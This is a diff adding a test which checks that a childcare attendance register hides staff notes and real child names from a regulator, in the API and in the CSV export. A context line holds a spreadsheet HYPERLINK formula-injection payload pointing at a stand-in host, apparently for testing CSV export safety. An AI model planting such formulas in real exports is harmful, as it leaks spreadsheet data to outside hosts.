@@ -342,6 +342,33 @@ async def test_the_register_exports_csv_with_names_for_staff_and_pseudonyms_for_
     assert (await world.client.get(path, headers=world.fresh(elsewhere.headers))).status_code == 403
 
 
+async def test_the_regulator_reads_the_register_without_the_words_staff_wrote_about_the_child(
+    world: World,
+):
+    regulator = await world.regulator("gusu")
+    room = await attending_room(world, clock_in=False)  # nobody clocked in: the admin overrides
+    [child] = room.children
+    words = "小宝妈妈说小宝昨晚发烧"
+    arrived = await check_in(world, room, child, who=room.admin, note=words, override_reason=words)
+    assert arrived.status_code == 201, arrived.text
+    fix = {"child_id": str(child), "room_id": str(room.room_id), "arrived_at": at(-5),
+           "replaces": at(0), "reason": words}  # fmt: skip
+    path = f"/v1/institutions/{room.institution_id}/attendance/corrections"
+    assert (await world.post(path, fix, room.admin)).status_code == 201
+    register = f"/v1/rooms/{room.room_id}/attendance?date={DAY}"
+    staff = await world.client.get(register, headers=world.fresh(room.admin.headers))
+    assert [r["note"] for r in staff.json()] == [words]  # staff read what they wrote
+    seen = await world.client.get(register, headers=world.fresh(regulator.headers))
+    assert seen.status_code == 200, seen.text
+    [visit] = seen.json()
+    assert (visit["note"], visit["override_reason"], visit["correction_reason"]) == ("", "", "")
+    assert visit["checked_in"] == "08:55" and visit["child"].startswith("幼儿-")
+    exported = await world.client.get(register.replace("attendance?", "attendance.csv?"),
+                                 headers=world.fresh(regulator.headers))  # fmt: skip
+    assert exported.status_code == 200 and "08:55" in exported.text
+    assert "小宝" not in exported.text and "发烧" not in exported.text
+
+
 FORMULA = '=HYPERLINK("http://x.example/?"&A2,"ok")'
 
 
